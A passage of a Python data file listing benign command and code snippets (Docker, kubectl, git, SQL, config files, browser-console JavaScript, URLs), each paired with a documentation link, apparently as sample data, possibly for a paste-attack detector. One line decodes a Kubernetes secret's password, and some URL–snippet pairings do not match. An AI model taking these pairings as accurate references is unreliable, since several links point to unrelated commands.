    ("https://github.com/nvm-sh/nvm#usage", "nvm install --lts && nvm use --lts"),
    ("https://rustup.rs/", "rustup target add wasm32-unknown-unknown aarch64-apple-darwin"),
    ("https://sdkman.io/usage", "sdk install java 21.0.5-tem"),
    (
        "https://helm.sh/docs/intro/using_helm/",
        "helm repo add jetstack https://charts.jetstack.io && helm search repo jetstack/cert-manager --versions | head -5",
    ),
    (
        "https://code.visualstudio.com/docs/editor/command-line",
        "code --install-extension ms-python.python",
    ),
]

DOCKER_K8S: list[tuple[str | None, str]] = [
    (
        "https://docs.docker.com/reference/cli/docker/container/run/",
        "docker run -d --name redis -p 6379:6379 redis:7-alpine",
    ),
    ("https://docs.docker.com/reference/cli/docker/container/exec/", "docker exec -it web sh"),
    (
        "https://docs.docker.com/reference/cli/docker/container/logs/",
        "docker logs -f --tail 200 api",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker image ls --filter dangling=true -q | xargs -r docker image rm",
    ),
    (
        "https://docs.docker.com/compose/reference/",
        "docker compose up -d --build && docker compose ps",
    ),
    ("https://docs.docker.com/compose/reference/", "docker compose logs -f worker"),
    (
        "https://docs.docker.com/reference/cli/docker/buildx/build/",
        "docker buildx build --platform linux/amd64,linux/arm64 -t ghcr.io/acme/api:1.4.2 --push .",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/image/ls/",
        "docker images --format '{{.Repository}}:{{.Tag}} {{.Size}}' | sort -k2 -h",
    ),
    (
        "https://docs.docker.com/engine/storage/volumes/",
        "docker volume create pgdata && docker run -d -v pgdata:/var/lib/postgresql/data -e POSTGRES_PASSWORD=dev postgres:16",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/cp/",
        "docker cp api:/app/logs/error.log ./error.log",
    ),
    ("https://docs.docker.com/reference/cli/docker/container/stats/", "docker stats --no-stream"),
    (
        "https://docs.docker.com/reference/cli/docker/network/create/",
        "docker network create --driver bridge backend",
    ),
    (
        "https://hub.docker.com/_/nginx",
        'docker run --rm -p 8080:80 -v "$PWD/site":/usr/share/nginx/html:ro nginx:stable',
    ),
    (
        "https://hub.docker.com/_/mariadb",
        "docker run --detach --name mariadb -e MARIADB_ROOT_PASSWORD=changeme -p 3306:3306 mariadb:11",
    ),
    (
        "https://docs.podman.io/en/latest/markdown/podman-run.1.html",
        'podman ps -a --filter status=exited --format "{{.Names}} {{.Status}}"',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -n payments -l app=ledger -o wide",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl describe pod api-7d9f8b6c4-x2lqz -n production",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl logs deploy/api -n production --since=15m -f",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl rollout restart deployment/web -n staging && kubectl rollout status deployment/web -n staging",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl scale deployment worker --replicas=5 -n jobs",
    ),
    (
        "https://kubernetes.io/docs/tasks/access-application-cluster/port-forward-access-application-cluster/",
        "kubectl port-forward -n observability svc/jaeger-query 16686:16686",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_apply/",
        "kubectl apply -f k8s/ --recursive --dry-run=server",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_config/",
        "kubectl config use-context prod-eu-west-1",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_top/",
        "kubectl top pods -n production --sort-by=memory",
    ),
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "kubectl get secret db-credentials -n app -o jsonpath='{.data.password}' | base64 -d",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_drain/",
        "kubectl drain node-pool-a-3 --ignore-daemonsets --delete-emptydir-data",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_create/kubectl_create_job/",
        "kubectl create job --from=cronjob/nightly-report manual-report-1207 -n reports",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_exec/",
        "kubectl exec -it deploy/api -n production -- /bin/sh",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_get/",
        "kubectl get events -n production --sort-by=.lastTimestamp | tail -30",
    ),
    (
        "https://helm.sh/docs/helm/helm_upgrade/",
        "helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress --create-namespace -f values.yaml",
    ),
    ("https://helm.sh/docs/helm/helm_rollback/", "helm rollback api 14 -n production"),
    ("https://k9scli.io/topics/commands/", "k9s -n production --context prod-eu-west-1"),
    (
        "https://kind.sigs.k8s.io/docs/user/quick-start/",
        "kind create cluster --name dev --config kind.yaml",
    ),
    (
        "https://minikube.sigs.k8s.io/docs/start/",
        "minikube start --driver=docker --cpus=4 --memory=8g",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform init -upgrade && terraform plan -out tfplan",
    ),
    ("https://developer.hashicorp.com/terraform/cli/commands/apply", "terraform apply tfplan"),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ec2/describe-instances.html",
        "aws ec2 describe-instances --filters Name=tag:Env,Values=prod --query 'Reservations[].Instances[].[InstanceId,State.Name]' --output table",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ecr/get-login-password.html",
        "aws logs tail /ecs/checkout-api --since 30m --follow --region eu-north-1",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/container/clusters/get-credentials",
        "gcloud container clusters get-credentials prod-gke --region europe-west1 --project acme-prod",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/aks",
        "az aks get-credentials --resource-group rg-prod --name aks-prod-weu",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/vm",
        'az vm list -d -o table --query "[].{name:name, state:powerState}"',
    ),
    (
        "https://docs.ansible.com/ansible/latest/cli/ansible-playbook.html",
        "ansible-playbook -i inventory/prod site.yml --limit webservers --check --diff",
    ),
    (
        "https://docs.ansible.com/ansible/latest/command_guide/intro_adhoc.html",
        "ansible all -i hosts.ini -m ping",
    ),
    (
        "https://fluxcd.io/flux/cmd/flux_reconcile/",
        "flux reconcile kustomization apps --with-source",
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/user-guide/commands/argocd_app_sync/",
        "argocd app diff ledger --local ./deploy/overlays/prod",
    ),
]

GIT: list[tuple[str | None, str]] = [
    ("https://git-scm.com/docs/git-rebase", "git rebase --continue && git push --force-with-lease"),
    ("https://git-scm.com/docs/git-reset", "git reset --hard origin/release/2026.12"),
    (
        "https://git-scm.com/docs/git-stash",
        "git stash push -m 'wip: header layout' -- src/components/Header.tsx",
    ),
    (
        "https://git-scm.com/docs/git-log",
        "git log --author='maria' --since='2 weeks ago' --pretty=format:'%h %ad %s' --date=short",
    ),
    ("https://git-scm.com/docs/git-bisect", "git bisect run npm test -- --run src/cart"),
    (
        "https://git-scm.com/docs/git-worktree",
        "git worktree add -b spike/new-search ../webshop-spike origin/main",
    ),
    ("https://git-scm.com/docs/git-cherry-pick", "git cherry-pick 9c3e1a7..b41d02f"),
    ("https://git-scm.com/docs/git-clean", "git clean -nd"),
    (
        "https://git-scm.com/docs/git-config",
        'git config --global user.email "anna.berg@acme.io" && git config --global pull.rebase true',
    ),
    (
        "https://git-scm.com/docs/git-remote",
        "git remote set-url origin git@github.com:acme/webshop.git",
    ),
    ("https://git-scm.com/docs/git-submodule", "git submodule foreach git pull origin main"),
    ("https://git-scm.com/docs/git-blame", "git blame -L 120,160 src/billing/invoice.py"),
    ("https://git-scm.com/docs/git-tag", "git tag --sort=-creatordate | head -5"),
    ("https://git-scm.com/docs/git-diff", "git diff --stat main...feature/checkout-v2"),
    ("https://git-scm.com/docs/git-restore", "git restore --source=HEAD~3 -- docs/architecture.md"),
    ("https://git-scm.com/docs/git-switch", "git switch -c fix/login-redirect origin/main"),
    ("https://git-scm.com/docs/git-reflog", "git reflog --date=relative | head -20"),
    ("https://git-scm.com/docs/git-shortlog", "git shortlog -sn --since='3 months ago'"),
    ("https://git-scm.com/docs/git-branch", 'git branch -vv | grep ": gone]"'),
    (
        "https://git-scm.com/docs/git-clone",
        "git clone --depth 1 --branch v3.2.1 https://github.com/pallets/flask.git",
    ),
    ("https://git-scm.com/docs/git-fetch", "git fetch --prune --tags"),
    ("https://git-scm.com/docs/git-commit", "git commit --fixup=HEAD~2"),
    ("https://git-scm.com/docs/git-push", "git push --force-with-lease origin feature/search"),
    (
        "https://git-scm.com/book/en/v2/Git-Tools-Rewriting-History",
        "git rebase --onto main feature/base feature/child",
    ),
    (
        "https://docs.github.com/en/get-started/getting-started-with-git/managing-remote-repositories",
        "git remote add upstream https://github.com/octo-org/octo-repo.git",
    ),
    ("https://cli.github.com/manual/gh_pr_checkout", "gh pr checkout 1842"),
    ("https://cli.github.com/manual/gh_pr_create", "gh pr create --fill --base main --draft"),
    ("https://cli.github.com/manual/gh_run_watch", "gh run list --workflow deploy.yml --limit 5"),
    (
        "https://docs.gitlab.com/user/project/push_options/",
        "git push -o merge_request.create -o merge_request.target=main",
    ),
    ("https://git-lfs.com/", "git lfs ls-files --size | sort -k3 -h | tail"),
]

PG = "https://www.postgresql.org/docs/current/"
SQL: list[tuple[str | None, str]] = [
    (
        "https://www.postgresql.org/docs/current/sql-select.html",
        "SELECT customer_id, SUM(total) AS revenue FROM orders WHERE created_at >= date_trunc('month', now()) GROUP BY customer_id ORDER BY revenue DESC LIMIT 20;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-createindex.html",
        "CREATE INDEX CONCURRENTLY idx_shipments_pending ON shipments (warehouse_id) WHERE status = 'pending';",
    ),
    (
        "https://www.postgresql.org/docs/current/monitoring-stats.html",
        "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT 15;",
    ),
    (
        "https://www.postgresql.org/docs/current/functions-admin.html",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'reporting' AND state = 'idle in transaction' AND now() - state_change > interval '10 minutes';",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-explain.html",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM events WHERE account_id = 4411 AND kind = 'login';",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-vacuum.html",
        "REINDEX INDEX CONCURRENTLY idx_events_account_ts;",
    ),
    (
        "https://www.postgresql.org/docs/current/functions-json.html",
        "SELECT id, payload->>'email' AS email FROM webhooks WHERE payload @> '{\"type\": \"invoice.paid\"}';",
    ),
    (
        "https://www.postgresql.org/docs/current/queries-with.html",
        "WITH recent AS (SELECT * FROM logins WHERE ts > now() - interval '7 days') SELECT user_id, count(*) FROM recent GROUP BY 1 HAVING count(*) > 50;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-altertable.html",
        "ALTER TABLE invoices ADD COLUMN paid_at timestamptz;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-grant.html",
        "GRANT SELECT ON ALL TABLES IN SCHEMA analytics TO readonly_role;",
    ),
    (
        "https://www.postgresql.org/docs/current/ddl-partitioning.html",
        "CREATE TABLE measurements_2026_12 PARTITION OF measurements FOR VALUES FROM ('2026-12-01') TO ('2027-01-01');",
    ),
    (
        "https://www.postgresql.org/docs/current/functions-window.html",
        "SELECT name, dept, salary, rank() OVER (PARTITION BY dept ORDER BY salary DESC) FROM employees;",
    ),
    (
        "https://www.postgresql.org/docs/current/app-psql.html",
        "\\copy (SELECT * FROM signups WHERE created_at::date = current_date - 1) TO 'signups.csv' CSV HEADER",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/show-processlist.html",
        "SELECT * FROM performance_schema.data_lock_waits\\G",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/create-user.html",
        "CREATE USER 'report'@'10.0.%' IDENTIFIED BY 'S3cure-Passw0rd!'; GRANT SELECT ON shop.* TO 'report'@'10.0.%';",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/information-schema-tables-table.html",
        "SELECT table_name, ROUND((data_length + index_length)/1024/1024, 1) AS mb FROM information_schema.tables WHERE table_schema = 'shop' ORDER BY mb DESC;",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/mysqldump.html",
        "mysqldump --single-transaction --routines --triggers -u root -p shop > shop-2026-12-07.sql",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/relational-databases/system-dynamic-management-views/sys-dm-exec-requests-transact-sql",
        "SELECT session_id, status, command, wait_type, blocking_session_id FROM sys.dm_exec_requests WHERE session_id > 50;",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/t-sql/statements/backup-transact-sql",
        "BACKUP DATABASE [Payroll] TO DISK = N'E:\\Backup\\Payroll_20261207.bak' WITH COMPRESSION, CHECKSUM, STATS = 10;",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/t-sql/database-console-commands/dbcc-checkdb-transact-sql",
        "DBCC CHECKDB (N'Payroll') WITH NO_INFOMSGS, ALL_ERRORMSGS;",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/relational-databases/system-catalog-views/sys-indexes-transact-sql",
        "SELECT OBJECT_NAME(i.object_id) AS tbl, i.name, s.avg_fragmentation_in_percent FROM sys.dm_db_index_physical_stats(DB_ID(), NULL, NULL, NULL, 'LIMITED') s JOIN sys.indexes i ON i.object_id = s.object_id AND i.index_id = s.index_id WHERE s.avg_fragmentation_in_percent > 30;",
    ),
    (
        "https://www.sqlite.org/cli.html",
        ".mode column\n.headers on\nSELECT name, sql FROM sqlite_master WHERE type='table';",
    ),
    (
        "https://www.sqlite.org/lang_upsert.html",
        "INSERT INTO settings(key, value) VALUES('theme', 'dark') ON CONFLICT(key) DO UPDATE SET value = excluded.value;",
    ),
    (
        "https://clickhouse.com/docs/en/sql-reference/statements/select",
        "SELECT toStartOfHour(ts) AS h, count() FROM access_log WHERE ts > now() - INTERVAL 1 DAY GROUP BY h ORDER BY h;",
    ),
    (
        "https://docs.snowflake.com/en/sql-reference/sql/copy-into-table",
        "COPY INTO raw.events FROM @stage/events/2026/12/07/ FILE_FORMAT = (TYPE = PARQUET) MATCH_BY_COLUMN_NAME = CASE_INSENSITIVE;",
    ),
    (
        "https://cloud.google.com/bigquery/docs/reference/standard-sql/query-syntax",
        "SELECT country, COUNT(DISTINCT user_pseudo_id) AS users FROM `acme-analytics.ga4.events_202612*` GROUP BY country ORDER BY users DESC LIMIT 10;",
    ),
    (
        None,
        "UPDATE users SET is_active = false WHERE last_login < now() - interval '2 years' AND role <> 'admin';",
    ),
    (None, "DELETE FROM sessions WHERE expires_at < now();"),
    (
        None,
        "select count(*) from orders where status = 'refunded' and created_at::date = '2026-12-06';",
    ),
    (
        None,
        "BEGIN; UPDATE accounts SET balance = balance - 100 WHERE id = 17; UPDATE accounts SET balance = balance + 100 WHERE id = 42; COMMIT;",
    ),
]

CONFIG: list[tuple[str | None, str]] = [
    (
        "https://nginx.org/en/docs/http/configuring_https_servers.html",
        "server {\n    listen 443 ssl;\n    server_name shop.example.com;\n    ssl_certificate     /etc/letsencrypt/live/shop.example.com/fullchain.pem;\n    ssl_certificate_key /etc/letsencrypt/live/shop.example.com/privkey.pem;\n    location / { proxy_pass http://127.0.0.1:8080; }\n}",
    ),
    (
        "https://docs.docker.com/compose/compose-file/",
        "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - db-data:/var/lib/postgresql/data\nvolumes:\n  db-data: {}",
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -e .[dev] && pytest -q",
    ),
    (
        "https://docs.gitlab.com/ci/yaml/",
        "stages: [build, test]\nbuild:\n  stage: build\n  image: node:22\n  script:\n    - npm ci\n    - npm run build\n  artifacts:\n    paths: [dist/]",
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  selector:\n    matchLabels: {app: web}\n  template:\n    metadata:\n      labels: {app: web}\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n          ports: [{containerPort: 80}]",
    ),
    (
        "https://code.visualstudio.com/docs/getstarted/settings",
        '{\n  "editor.formatOnSave": true,\n  "editor.rulers": [100],\n  "files.trimTrailingWhitespace": true,\n  "python.defaultInterpreterPath": ".venv/bin/python"\n}',
    ),
    (
        "https://www.typescriptlang.org/tsconfig/",
        '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "module": "NodeNext",\n    "strict": true,\n    "outDir": "dist"\n  },\n  "include": ["src"]\n}',
    ),
    (
        "https://docs.astral.sh/ruff/configuration/",
        '[tool.ruff]\nline-length = 100\ntarget-version = "py312"\n\n[tool.ruff.lint]\nselect = ["E", "F", "I", "UP", "B"]',
    ),
    (
        "https://editorconfig.org/",
        "[*.{py,pyi}]\nindent_size = 4\nmax_line_length = 100\n\n[Makefile]\nindent_style = tab",
    ),
    (
        "https://git-scm.com/docs/gitignore",
        "node_modules/\ndist/\n.env\n.env.*\n!.env.example\n*.log\n.DS_Store",
    ),
    (
        "https://man.openbsd.org/ssh_config",
        "Host bastion\n    HostName 203.0.113.132\n    User ops\n    IdentityFile ~/.ssh/id_ed25519\n\nHost db-*\n    ProxyJump bastion",
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/systemd.service.html",
        "[Unit]\nDescription=Webshop API\nAfter=network-online.target\n\n[Service]\nUser=app\nWorkingDirectory=/srv/api\nExecStart=/srv/api/.venv/bin/gunicorn -w 4 -b 127.0.0.1:8000 app:app\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://prometheus.io/docs/prometheus/latest/configuration/configuration/",
        "scrape_configs:\n  - job_name: node\n    scrape_interval: 30s\n    static_configs:\n      - targets: ['10.0.0.11:9100', '10.0.0.12:9100']",
    ),
    (
        "https://caddyserver.com/docs/caddyfile",
        "shop.example.com {\n\treverse_proxy localhost:3000\n\tencode gzip\n\tlog {\n\t\toutput file /var/log/caddy/shop.log\n\t}\n}",
    ),
    (
        "https://httpd.apache.org/docs/2.4/vhosts/examples.html",
        "<VirtualHost *:80>\n    ServerName intranet.local\n    DocumentRoot /var/www/intranet\n    ErrorLog ${APACHE_LOG_DIR}/intranet-error.log\n</VirtualHost>",
    ),
    (
        "https://redis.io/docs/latest/operate/oss_and_stack/management/config/",
        "maxmemory 512mb\nmaxmemory-policy allkeys-lru\nappendonly yes",
    ),
    (
        "https://www.postgresql.org/docs/current/auth-pg-hba-conf.html",
        "hostssl  reporting  metabase  10.30.4.0/24  scram-sha-256",
    ),
    (
        "https://docs.npmjs.com/cli/v10/configuring-npm/package-json",
        '{\n  "name": "webshop",\n  "private": true,\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc && vite build",\n    "test": "vitest run"\n  }\n}',
    ),
    (
        "https://doc.rust-lang.org/cargo/reference/manifest.html",
        '[package]\nname = "logtail"\nversion = "0.3.1"\nedition = "2021"\n\n[dependencies]\nclap = { version = "4", features = ["derive"] }\nserde_json = "1"',
    ),
    (
        "https://docs.ansible.com/ansible/latest/inventory_guide/intro_inventory.html",
        "[webservers]\nweb01.acme.internal\nweb02.acme.internal\n\n[dbservers]\ndb01.acme.internal ansible_user=postgres",
    ),
    (
        "https://developer.hashicorp.com/terraform/language/resources",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-prod-logs"\n  tags = {\n    Environment = "prod"\n  }\n}',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/customize-settings/profile-general",
        '{\n    "guid": "{574e775e-4f2a-5b96-ac1e-a2962a402336}",\n    "name": "PowerShell 7",\n    "commandline": "pwsh.exe -NoLogo",\n    "startingDirectory": "%USERPROFILE%\\\\src"\n}',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/wsl-config",
        "[wsl2]\nmemory=8GB\nprocessors=4\nswap=2GB\nlocalhostForwarding=true",
    ),
    (
        "https://docs.pytest.org/en/stable/reference/customize.html",
        "[pytest]\naddopts = -ra -q --strict-markers\ntestpaths = tests\nmarkers =\n    slow: marks tests as slow",
    ),
    (
        "https://www.jetbrains.com/help/idea/tuning-the-ide.html",
        "-Xms1024m\n-Xmx4096m\n-XX:ReservedCodeCacheSize=512m",
    ),
    (
        "https://logging.apache.org/log4j/2.x/manual/configuration.html",
        '<Configuration status="WARN">\n  <Appenders>\n    <Console name="Console" target="SYSTEM_OUT">\n      <PatternLayout pattern="%d %-5level %logger{36} - %msg%n"/>\n    </Console>\n  </Appenders>\n  <Loggers><Root level="info"><AppenderRef ref="Console"/></Root></Loggers>\n</Configuration>',
    ),
    (
        "https://docs.djangoproject.com/en/5.1/ref/settings/",
        'DATABASES = {\n    "default": {\n        "ENGINE": "django.db.backends.postgresql",\n        "NAME": "shop",\n        "HOST": "db",\n        "PORT": 5432,\n    }\n}',
    ),
    (
        "https://12factor.net/config",
        "DATABASE_URL=postgres://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nLOG_LEVEL=debug",
    ),
    (
        "https://support.apple.com/guide/deployment/",
        '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n  <key>PayloadDisplayName</key>\n  <string>Wi-Fi Office</string>\n  <key>SSID_STR</key>\n  <string>Office-5G</string>\n</dict>\n</plist>',
    ),
    (
        "https://docs.renovatebot.com/configuration-options/",
        '{\n  "packageRules": [\n    { "matchUpdateTypes": ["patch"], "matchDepTypes": ["devDependencies"], "automerge": true }\n  ]\n}',
    ),
    (
        "https://eslint.org/docs/latest/use/configure/configuration-files",
        'export default [\n  {\n    files: ["**/*.ts"],\n    rules: { "no-unused-vars": "warn", eqeqeq: "error" },\n  },\n];',
    ),
    (
        "https://docs.sentry.io/platforms/python/",
        'sentry_sdk.init(\n    dsn="https://examplePublicKey@o0.ingest.sentry.io/0",\n    traces_sample_rate=0.2,\n)',
    ),
    (
        "https://www.home-assistant.io/docs/configuration/",
        "automation:\n  - alias: Porch light at sunset\n    trigger:\n      - platform: sun\n        event: sunset\n    action:\n      - service: light.turn_on\n        target:\n          entity_id: light.porch",
    ),
    (
        "https://grafana.com/docs/loki/latest/send-data/promtail/configuration/",
        "scrape_configs:\n  - job_name: system\n    static_configs:\n      - targets: [localhost]\n        labels:\n          job: varlogs\n          __path__: /var/log/*.log",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/extensions/configuration-providers",
        '{\n  "Logging": { "LogLevel": { "Default": "Information" } },\n  "ConnectionStrings": { "Default": "Server=sql01;Database=Payroll;Trusted_Connection=True;" }\n}',
    ),
]

MDN = "https://developer.mozilla.org/en-US/docs/Web/API/"
CONSOLE_JS: list[tuple[str | None, str]] = [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "document.querySelectorAll('a[href^=\"http\"]').forEach(a => console.log(a.href))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/console/table_static",
        "console.table([...document.querySelectorAll('link[rel=preload]')].map(l => ({href: l.href, as: l.as})))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(r => r.initiatorType === 'fetch' && r.duration > 800).length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "Object.keys(localStorage).filter(k => k.startsWith('feature_'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/removeItem",
        "localStorage.removeItem('onboarding_dismissed'); location.reload()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/internal/feature-flags').then(r => r.json()).then(f => console.log(f.checkoutV2))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "await (await fetch('/api/orders?status=pending', {credentials: 'same-origin'})).json()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Element/scrollIntoView",
        "document.querySelector('[data-testid=\"submit-order\"]').disabled",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.querySelectorAll('[aria-hidden=\"true\"] a[href]').length",
    ),
    ("https://developer.mozilla.org/en-US/docs/Web/API/Navigator/userAgent", "navigator.userAgent"),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/matchMedia",
        "window.matchMedia('(min-width: 1024px) and (orientation: landscape)').matches",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.DateTimeFormat('sv-SE', {dateStyle: 'full', timeZone: 'Europe/Stockholm'}).format(new Date())",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Element/getBoundingClientRect",
        "$0.dataset",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/getComputedStyle",
        "getComputedStyle($0).getPropertyValue('--brand-primary')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard_API",
        "copy(JSON.stringify([...document.querySelectorAll('tr')].map(r => [...r.cells].map(c => c.innerText)), null, 2))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Service_Worker_API",
        "navigator.storage.estimate().then(e => console.log((e.usage / 1e6).toFixed(1) + ' MB used'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Cache",
        "caches.open('static-v12').then(c => c.keys()).then(ks => ks.length)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/IndexedDB_API",
        "indexedDB.deleteDatabase('offline-drafts')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/PerformanceObserver",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log(e.name, e.duration))).observe({type: 'longtask', buffered: true})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
        "document.cookie.includes('consent_analytics=1')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(document.querySelector('#checkout-form'), 'submit')",
    ),
    ("https://developer.chrome.com/docs/devtools/console/utilities", "$$('img:not([alt])').length"),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        'getEventListeners(document.querySelector("#search"))',
    ),
    (
        "https://react.dev/learn/react-developer-tools",
        "document.querySelector('#root')._reactRootContainer",
    ),
    ("https://vuejs.org/guide/scaling-up/tooling.html", "window.__NUXT__?.config?.public"),
    (
        "https://stackoverflow.com/questions/11849562/how-to-save-the-output-of-a-console-log",
        "console.save = (data, name = 'console.json') => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([JSON.stringify(data, null, 2)])); a.download = name; a.click(); }",
    ),
    (
        "https://stackoverflow.com/questions/3219758/detect-changes-in-the-dom",
        "new MutationObserver(m => console.log(m)).observe(document.body, {childList: true, subtree: true})",
    ),
    (
        "https://stackoverflow.com/questions/5629684/how-to-check-if-element-exists",
        "!!document.getElementById('cookie-banner')",
    ),
    (
        "https://stackoverflow.com/questions/105034/how-to-create-a-guid-uuid",
        'crypto.getRandomValues(new Uint8Array(8)).join("-")',
    ),
    (
        "https://stackoverflow.com/questions/1129216/sort-array-of-objects",
        "rows.sort((a, b) => a.lastName.localeCompare(b.lastName, 'de'))",
    ),
    (
        None,
        "[...document.querySelectorAll('.price')].map(e => parseFloat(e.textContent.replace(/[^0-9.]/g, ''))).reduce((a, b) => a + b, 0)",
    ),
    (None, "document.title"),
    (None, "JSON.parse(localStorage.getItem('cart') || '[]').length"),
    (None, "console.log(window.__APP_CONFIG__?.release)"),
    (None, "Array.from(document.forms[0].elements).map(e => [e.name, e.value])"),
]

URLS: list[tuple[str | None, str]] = [
    (None, "https://github.com/acme/webshop/pull/1842/files"),
    (None, "https://acme.atlassian.net/browse/OPS-2291"),
    (
        None,
        "https://docs.google.com/spreadsheets/d/1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ/edit#gid=0",
    ),
    (
        None,
        "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjQ5ZDhmYTAtYzE2Zi00%40thread.v2/0?context=%7b%22Tid%22%3a%22acme%22%7d",
    ),
    (None, "https://us02web.zoom.us/j/84512093311?pwd=Zk9xR2tFbWpLUT09"),
    (None, "https://www.youtube.com/watch?v=8pDqJVdNa44&list=PLx0sYbCqOb8TBPRdmBHs5Iftvv9TPboYG"),
    (None, "https://en.wikipedia.org/wiki/ClickFix"),
    (None, "https://www.google.com/maps/place/Stockholm+Central+Station/@59.3303,18.0580,17z"),
    (None, "https://grafana.acme.internal/d/api-latency/api-latency?orgId=1&from=now-6h&to=now"),
    (None, "https://console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups"),
    (None, "https://portal.azure.com/#view/Microsoft_AAD_IAM/UsersManagementMenuBlade/~/AllUsers"),
    (None, "https://app.slack.com/client/T024BE7LD/C03RTEAM01"),
    (None, "https://www.figma.com/design/8HqLk2Zt1nPX/Checkout-v2?node-id=12-344"),
    (None, "https://sentry.io/organizations/acme/issues/4467781200/?project=55012"),
    (None, "https://status.github.com/"),
    (None, "https://login.microsoftonline.com/"),
    (None, "https://outlook.office.com/mail/inbox"),
    (None, "https://www.amazon.de/dp/B0CHX3QBCH"),
    (None, "https://news.ycombinator.com/item?id=42133311"),
    (None, "https://arxiv.org/abs/2405.04517"),
    (
